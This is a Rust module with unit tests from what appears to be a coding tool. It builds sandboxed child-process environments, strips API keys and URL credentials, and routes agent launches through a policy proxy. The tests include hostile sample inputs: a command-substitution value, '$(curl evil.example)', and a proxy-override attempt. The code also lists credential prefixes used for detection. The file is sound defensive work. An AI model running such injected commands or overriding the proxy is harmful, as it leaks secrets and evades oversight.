//! The child environment: every profile starts from an empty environment
//! plus a whitelist, so API keys and other secrets of the app's own
//! environment never reach a child — not even the person's terminal.
//!
//! Pure: the inherited environment and the target OS are parameters, so the
//! Windows and macOS rules are tested on any machine.

use std::collections::BTreeMap;

use cocode_core::process::{LaunchError, SandboxProfileKind};
use cocode_core::services::Secret;

/// Which platform's names apply. (`cocode-platform` has its own `Os`, but
/// that crate reaches egui, which no service crate may.)
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TargetOs {
    Linux,
    MacOs,
    Windows,
}

impl TargetOs {
    pub const fn current() -> Self {
        if cfg!(target_os = "macos") {
            Self::MacOs
        } else if cfg!(windows) {
            Self::Windows
        } else {
            Self::Linux
        }
    }
}

/// Passed through on every OS.
const COMMON: [&str; 13] = [
    "PATH",
    "HOME",
    "USER",
    "LOGNAME",
    "LANG",
    "TZ",
    "TMPDIR",
    "TMP",
    "TEMP",
    "SHELL",
    "TERM",
    "COLORTERM",
    "LC_ALL",
];

/// Passed through on Windows only.
const WINDOWS: [&str; 8] = [
    "USERPROFILE",
    "LOCALAPPDATA",
    "APPDATA",
    "SystemRoot",
    "SystemDrive",
    "ComSpec",
    "PATHEXT",
    "NUMBER_OF_PROCESSORS",
];

/// Passed through on macOS only.
const MACOS: [&str; 2] = ["DEVELOPER_DIR", "SDKROOT"];

/// Toolchain locations, passed through when set (resolved overrides).
const TOOLCHAIN: [&str; 7] = [
    "PUB_CACHE",
    "GRADLE_USER_HOME",
    "CP_HOME_DIR",
    "ANDROID_HOME",
    "FLUTTER_ROOT",
    "CARGO_HOME",
    "RUSTUP_HOME",
];

/// Name fragments that mark a variable as a credential; such a variable is
/// never passed, even when a launch asks for it explicitly.
const CREDENTIAL_MARKERS: [&str; 5] = ["KEY", "SECRET", "TOKEN", "PASSWORD", "CREDENTIAL"];

/// True for names like `ANTHROPIC_API_KEY`, `GITHUB_TOKEN`, `db_password`.
pub fn is_credential_like(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    CREDENTIAL_MARKERS.iter().any(|m| upper.contains(m))
}

/// How well-known API keys and tokens begin (`OpenAI` and Anthropic, `GitHub`,
/// `GitLab`, Slack, AWS access keys, Google API keys, Hugging Face, npm).
const CREDENTIAL_PREFIXES: [&str; 12] = [
    "sk-",
    "ghp_",
    "gho_",
    "ghu_",
    "ghs_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "AKIA",
    "AIza",
    "hf_",
];

/// True for values that look like a key or token, whatever the variable's
/// name: a known key prefix followed by a long run of key characters.
pub fn is_credential_value(value: &str) -> bool {
    let value = value.trim();
    CREDENTIAL_PREFIXES.iter().any(|prefix| {
        value.strip_prefix(prefix).is_some_and(|rest| {
            rest.len() >= 16
                && rest
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_'))
        })
    }) || value.starts_with("npm_") && value.len() >= 36
}

/// True for a value holding a URL with a user name or password in it
/// (`postgres://app:pw@db/x`, `https://key@o1.ingest.sentry.io/1`, a
/// proxy's `http://user:pw@proxy:3128`), anywhere in the value: the
/// credential rides in the value whatever the variable is called.
pub fn has_url_credentials(value: &str) -> bool {
    value.match_indices("://").any(|(at, _)| {
        let scheme = &value[..at];
        let scheme_ok = scheme
            .chars()
            .next_back()
            .is_some_and(|c| c.is_ascii_alphanumeric());
        let rest = &value[at + 3..];
        let authority = rest
            .split(|c: char| matches!(c, '/' | '?' | '#') || c.is_whitespace())
            .next()
            .unwrap_or_default();
        scheme_ok
            && authority
                .rsplit_once('@')
                .is_some_and(|(user, _)| !user.is_empty() && user != ":")
    })
}

/// True for a long run of mixed letters and digits with no separator a
/// word, path or version would have — how generated tokens look
/// (`SESSION=Zx81Kq…`): at least 32 characters of `A-Z a-z 0-9 _ - + = /`,
/// upper case, lower case and a digit all present, not starting with `/`.
pub fn is_random_token(value: &str) -> bool {
    let value = value.trim();
    value.len() >= 32
        && !value.starts_with('/')
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '+' | '=' | '/'))
        && value.chars().any(|c| c.is_ascii_uppercase())
        && value.chars().any(|c| c.is_ascii_lowercase())
        && value.chars().any(|c| c.is_ascii_digit())
}

/// Whether an inherited variable of this name reaches children (before the
/// checks on its value).
pub fn passes_to_children(name: &str, os: TargetOs) -> bool {
    whitelisted(name, os)
}

/// A name a shell could export: letters, digits and `_`, not starting with
/// a digit (so never `HTTP_PROXY=` or a name with a NUL).
fn valid_name(name: &str) -> bool {
    let mut chars = name.chars();
    chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

/// Locale variables hold locale names (`C`, `ko_KR.UTF-8`, `en_US.utf8@euro`,
/// or a terminal's short label such as `LC_TERMINAL=iTerm2`); anything else
/// there is not a locale and is not passed.
fn plausible_locale(value: &str) -> bool {
    !value.is_empty()
        && value.len() <= 64
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | '@' | '-'))
}

fn is_locale_variable(name: &str) -> bool {
    name == "LANG" || name.starts_with("LC_")
}

fn whitelisted(name: &str, os: TargetOs) -> bool {
    // Windows variable names are case-insensitive.
    let eq = |a: &str| {
        if os == TargetOs::Windows {
            a.eq_ignore_ascii_case(name)
        } else {
            a == name
        }
    };
    COMMON.iter().any(|n| eq(n))
        || name.starts_with("LC_")
        || TOOLCHAIN.iter().any(|n| eq(n))
        || (os == TargetOs::Windows && WINDOWS.iter().any(|n| eq(n)))
        || (os == TargetOs::MacOs && MACOS.iter().any(|n| eq(n)))
}

/// Variables the agent profile sets itself; an override would route
/// around the policy proxy.
const SANDBOX_VARIABLES: [&str; 6] = [
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "ALL_PROXY",
    "NO_PROXY",
    "JAVA_TOOL_OPTIONS",
    "GRADLE_OPTS",
];

/// Adds an agent launch's secret variables to its environment. Secrets go
/// to agent launches only, and their names must look like credentials.
pub fn add_secrets(
    env: &mut BTreeMap<String, String>,
    profile: SandboxProfileKind,
    secrets: &BTreeMap<String, Secret>,
) -> Result<(), LaunchError> {
    for (name, value) in secrets {
        if profile != SandboxProfileKind::Agent
            || !is_credential_like(name)
            || name.contains(['=', '\0'])
        {
            return Err(LaunchError::SecretEnvNotAllowed(name.clone()));
        }
        env.insert(name.clone(), value.expose().to_owned());
    }
    Ok(())
}

/// The variables that name the policy proxy to an agent child.
const PROXY_VARIABLES: [&str; 6] = [
    "HTTP_PROXY",
    "HTTPS_PROXY",
    "http_proxy",
    "https_proxy",
    "ALL_PROXY",
    "all_proxy",
];

/// Points an agent child's proxy variables at the proxy with this launch's
/// own credentials.
pub fn with_launch_credentials(env: &mut BTreeMap<String, String>, proxy: &ProxyEnv) {
    for name in PROXY_VARIABLES {
        if let Some(value) = env.get_mut(name) {
            value.clone_from(&proxy.url);
        }
    }
}

/// Where an agent child reaches the network: the policy proxy with this
/// launch's credentials.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProxyEnv {
    /// `http://<launch-id>:<token>@127.0.0.1:<port>`
    pub url: String,
    pub port: u16,
}

/// Builds a child's environment: whitelisted inherited variables, the proxy
/// variables for agent launches, then the launch's explicit overrides.
/// Credential-like names are dropped from the inherited set and refused as
/// overrides (`LaunchError::CredentialLikeEnv`).
pub fn child_env(
    profile: SandboxProfileKind,
    inherited: &BTreeMap<String, String>,
    overrides: &BTreeMap<String, String>,
    proxy: Option<&ProxyEnv>,
    os: TargetOs,
) -> Result<BTreeMap<String, String>, LaunchError> {
    if let Some(name) = overrides.keys().find(|n| !valid_name(n)) {
        return Err(LaunchError::InvalidEnvName(name.clone()));
    }
    if let Some(name) = overrides.keys().find(|n| is_credential_like(n)) {
        return Err(LaunchError::CredentialLikeEnv(name.clone()));
    }
    if let Some((name, _)) = overrides.iter().find(|(_, v)| is_credential_value(v)) {
        return Err(LaunchError::CredentialLikeValue(name.clone()));
    }
    if profile == SandboxProfileKind::Agent
        && let Some(name) = overrides
            .keys()
            .find(|n| SANDBOX_VARIABLES.iter().any(|r| r.eq_ignore_ascii_case(n)))
    {
        return Err(LaunchError::ReservedEnv(name.clone()));
    }
    // Inherited values are checked like the names: a key kept in a
    // whitelisted variable (`LC_ALL=sk-…`) stays behind.
    let mut env: BTreeMap<String, String> = inherited
        .iter()
        .filter(|(name, value)| {
            whitelisted(name, os)
                && !is_credential_like(name)
                && !is_credential_value(value)
                && !has_url_credentials(value)
                && (!is_locale_variable(name) || plausible_locale(value))
        })
        .map(|(k, v)| (k.clone(), v.clone()))
        .collect();
    if profile == SandboxProfileKind::Agent {
        let proxy = proxy.ok_or(LaunchError::ProxyUnavailable)?;
        for name in PROXY_VARIABLES {
            env.insert(name.to_owned(), proxy.url.clone());
        }
        // Nothing bypasses the proxy: local services are judged like any host.
        env.insert("NO_PROXY".to_owned(), String::new());
        env.insert("no_proxy".to_owned(), String::new());
        // The JVM ignores HTTP_PROXY. (Proxy credentials cannot be passed as
        // system properties without a custom Authenticator; JVM tools get
        // 407 unless they read the URL's user info themselves.)
        let jvm = format!(
            "-Dhttp.proxyHost=127.0.0.1 -Dhttp.proxyPort={port} -Dhttps.proxyHost=127.0.0.1 -Dhttps.proxyPort={port}",
            port = proxy.port
        );
        env.insert("JAVA_TOOL_OPTIONS".to_owned(), jvm.clone());
        env.insert("GRADLE_OPTS".to_owned(), jvm);
    }
    for (k, v) in overrides {
        env.insert(k.clone(), v.clone());
    }
    Ok(env)
}

#[cfg(test)]
mod tests {
    use super::*;
    use pretty_assertions::assert_eq;

    fn map(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
        pairs
            .iter()
            .map(|(a, b)| ((*a).to_owned(), (*b).to_owned()))
            .collect()
    }

    fn parent() -> BTreeMap<String, String> {
        map(&[
            ("PATH", "/usr/bin"),
            ("HOME", "/home/me"),
            ("LANG", "ko_KR.UTF-8"),
            ("LC_CTYPE", "ko_KR.UTF-8"),
            ("ANTHROPIC_API_KEY", "sk-ant-secret"),
            ("GITHUB_TOKEN", "ghp_secret"),
            ("AWS_SECRET_ACCESS_KEY", "aws"),
            ("DATABASE_URL", "postgres://u:p@db/x"),
            // A whitelisted name holding a password in a URL stays behind.
            ("TERM", "ftp://user:pw@files.example.org/"),
            ("CARGO_HOME", "/home/me/.cargo"),
            ("SystemRoot", "C:\\Windows"),
            ("DEVELOPER_DIR", "/Applications/Xcode.app"),
            ("SSH_AUTH_SOCK", "/tmp/ssh"),
        ])
    }

    #[test]
    fn credentials_inside_urls_and_random_tokens_are_recognised_by_their_value() {
        for value in [
            "postgres://app:hunter2@db.internal/x",
            "redis://:redispass@cache:6379/0",
            "https://sentrykey42@o1.ingest.sentry.io/1",
            "http://proxyuser:proxypass@proxy:3128",
            "mirror=https://u:p@example.org/simple other",
        ] {
            assert!(has_url_credentials(value), "{value}");
        }
        for value in [
            "https://hooks.example.org/services/T0/B0",
            "postgres://db.internal/x",
            "mailto:me@example.org",
            "http://example.org/path@not-a-user",
            "/home/me/.cargo",
            "unix:path=/run/user/1000/bus",
        ] {
            assert!(!has_url_credentials(value), "{value}");
        }
        for value in [
            "Zx81KqP0aLmN3vB7cD2eF9gH4iJ6kM1o",
            "dGhpcyBpcyBhIGxvbmcgc2VjcmV0IHRva2VuIDEyMw==",
        ] {
            assert!(is_random_token(value), "{value}");
        }
        for value in [
            "/run/user/1000/.mutter-Xwaylandauth.ABC123XYZ0",
            "0123456789abcdef0123456789abcdef01234567",
            "ko_KR.UTF-8",
            "4c5e3b2a-1f0e-4d3c-9b8a-7f6e5d4c3b2a",
            "Short1Aa",
        ] {
            assert!(!is_random_token(value), "{value}");
        }
    }

    #[test]
    fn only_whitelisted_names_pass_and_credentials_never_do() {
        let env = child_env(
            SandboxProfileKind::HumanTerminal,
            &parent(),
            &BTreeMap::new(),
            None,
            TargetOs::Linux,
        )
        .unwrap();
        assert_eq!(
            env,
            map(&[
                ("CARGO_HOME", "/home/me/.cargo"),
                ("HOME", "/home/me"),
                ("LANG", "ko_KR.UTF-8"),
                ("LC_CTYPE", "ko_KR.UTF-8"),
                ("PATH", "/usr/bin"),
            ])
        );
    }

    #[test]
    fn windows_and_macos_add_their_own_names() {
        let win = child_env(
            SandboxProfileKind::Tool,
            &parent(),
            &BTreeMap::new(),
            None,
            TargetOs::Windows,
        )
        .unwrap();
        assert_eq!(
            win.get("SystemRoot").map(String::as_str),
            Some("C:\\Windows")
        );
        assert!(!win.contains_key("DEVELOPER_DIR"));
        let mac = child_env(
            SandboxProfileKind::Tool,
            &parent(),
            &BTreeMap::new(),
            None,
            TargetOs::MacOs,
        )
        .unwrap();
        assert_eq!(
            mac.get("DEVELOPER_DIR").map(String::as_str),
            Some("/Applications/Xcode.app")
        );
        assert!(!mac.contains_key("SystemRoot"));
        // Windows names match case-insensitively (`Path` is how Windows spells it).
        let win = child_env(
            SandboxProfileKind::Tool,
            &map(&[("Path", "C:\\bin")]),
            &BTreeMap::new(),
            None,
            TargetOs::Windows,
        )
        .unwrap();
        assert_eq!(win, map(&[("Path", "C:\\bin")]));
    }

    #[test]
    fn credential_like_overrides_are_refused_even_when_asked_for() {
        for name in [
            "MY_API_KEY",
            "npm_token",
            "DB_PASSWORD",
            "GOOGLE_APPLICATION_CREDENTIALS",
            "client_secret",
        ] {
            let overrides = map(&[(name, "x")]);
            assert_eq!(
                child_env(
                    SandboxProfileKind::Tool,
                    &parent(),
                    &overrides,
                    None,
                    TargetOs::Linux
                ),
                Err(LaunchError::CredentialLikeEnv(name.to_owned()))
            );
        }
        let ok = child_env(
            SandboxProfileKind::Tool,
            &BTreeMap::new(),
            &map(&[("RUST_LOG", "debug")]),
            None,
            TargetOs::Linux,
        )
        .unwrap();
        assert_eq!(ok, map(&[("RUST_LOG", "debug")]));
    }

    #[test]
    fn an_agent_cannot_override_the_proxy_variables() {
        let proxy = ProxyEnv {
            url: "http://l1:t0k@127.0.0.1:4242".into(),
            port: 4242,
        };
        for name in ["HTTPS_PROXY", "no_proxy", "JAVA_TOOL_OPTIONS"] {
            assert_eq!(
                child_env(
                    SandboxProfileKind::Agent,
                    &BTreeMap::new(),
                    &map(&[(name, "http://elsewhere")]),
                    Some(&proxy),
                    TargetOs::Linux
                ),
                Err(LaunchError::ReservedEnv(name.to_owned()))
            );
        }
    }

    #[test]
    fn secrets_reach_agent_launches_only_and_only_under_credential_names() {
        let secrets: BTreeMap<String, Secret> =
            [("GEMINI_API_KEY".to_owned(), Secret::new("k1"))].into();
        let mut env = map(&[("PATH", "/usr/bin")]);
        add_secrets(&mut env, SandboxProfileKind::Agent, &secrets).unwrap();
        assert_eq!(env, map(&[("PATH", "/usr/bin"), ("GEMINI_API_KEY", "k1")]));
        let mut env = BTreeMap::new();
        assert_eq!(
            add_secrets(&mut env, SandboxProfileKind::Tool, &secrets),
            Err(LaunchError::SecretEnvNotAllowed("GEMINI_API_KEY".into()))
        );
        for name in ["PATH", "HTTPS_PROXY", "A=B_KEY"] {
            let bad: BTreeMap<String, Secret> = [(name.to_owned(), Secret::new("x"))].into();
            assert_eq!(
                add_secrets(&mut env, SandboxProfileKind::Agent, &bad),
                Err(LaunchError::SecretEnvNotAllowed(name.to_owned()))
            );
        }
        assert!(env.is_empty());
    }

    #[test]
    fn agent_launches_get_the_proxy_and_fail_closed_without_one() {
        assert_eq!(
            child_env(
                SandboxProfileKind::Agent,
                &parent(),
                &BTreeMap::new(),
                None,
                TargetOs::Linux
            ),
            Err(LaunchError::ProxyUnavailable)
        );
        let proxy = ProxyEnv {
            url: "http://l1:t0k@127.0.0.1:4242".into(),
            port: 4242,
        };
        let env = child_env(
            SandboxProfileKind::Agent,
            &BTreeMap::new(),
            &BTreeMap::new(),
            Some(&proxy),
            TargetOs::Linux,
        )
        .unwrap();
        assert_eq!(env.get("HTTPS_PROXY"), Some(&proxy.url));
        assert_eq!(env.get("http_proxy"), Some(&proxy.url));
        assert_eq!(env.get("NO_PROXY").map(String::as_str), Some(""));
        assert!(env["JAVA_TOOL_OPTIONS"].contains("-Dhttps.proxyPort=4242"));
    }

    #[test]
    fn credential_values_and_non_locales_stay_behind_in_whitelisted_variables() {
        let inherited = map(&[
            ("PATH", "/usr/bin"),
            ("LANG", "ko_KR.UTF-8"),
            ("LC_ALL", "C"),
            ("LC_TERMINAL", "iTerm2"),
            ("LC_CTYPE", "sk-ant-api03-abcdefghijklmnopqrstuvwxyz012345"),
            ("LC_MESSAGES", "$(curl evil.example)"),
            ("TZ", "ghp_abcdefghijklmnopqrstuvwxyz0123456789"),
            ("HOME", "/home/me"),
        ]);
        let env = child_env(
            SandboxProfileKind::HumanTerminal,
            &inherited,
            &BTreeMap::new(),
            None,
            TargetOs::Linux,
        )
        .unwrap();
        assert_eq!(
            env,
            map(&[
                ("HOME", "/home/me"),
                ("LANG", "ko_KR.UTF-8"),
                ("LC_ALL", "C"),
                ("LC_TERMINAL", "iTerm2"),
                ("PATH", "/usr/bin"),
            ])
        );
    }

    #[test]
    fn override_names_must_be_variable_names_and_values_no_keys() {
        let launch = |name: &str, value: &str| {
            child_env(
                SandboxProfileKind::Agent,
                &BTreeMap::new(),
                &map(&[(name, value)]),
                Some(&ProxyEnv {
                    url: "http://l:t@127.0.0.1:1".into(),
                    port: 1,
                }),
                TargetOs::Linux,
            )
        };
        for bad in [
            "HTTP_PROXY=",
            "HTTP_PROXY=http://evil",
            "1ABC",
            "",
            "A B",
            "A\0B",
            "NO-PROXY",
        ] {
            assert_eq!(
                launch(bad, "x"),
                Err(LaunchError::InvalidEnvName(bad.to_owned())),
                "{bad:?}"
            );
        }
        assert_eq!(
            launch("LC_ALL", "sk-proj-abcdefghijklmnopqrstuvwxyz"),
            Err(LaunchError::CredentialLikeValue("LC_ALL".to_owned()))
        );
        assert_eq!(
            launch("SOME_SETTING", "AKIAABCDEFGHIJKLMNOPQ"),
            Err(LaunchError::CredentialLikeValue("SOME_SETTING".to_owned()))
        );
        // Ordinary values pass, including ones that merely start like a key.
        let env = launch("RUST_LOG", "sk-short").unwrap();
        assert_eq!(env.get("RUST_LOG").map(String::as_str), Some("sk-short"));
        assert!(launch("_PRIVATE_1", "ok").is_ok());
    }
}
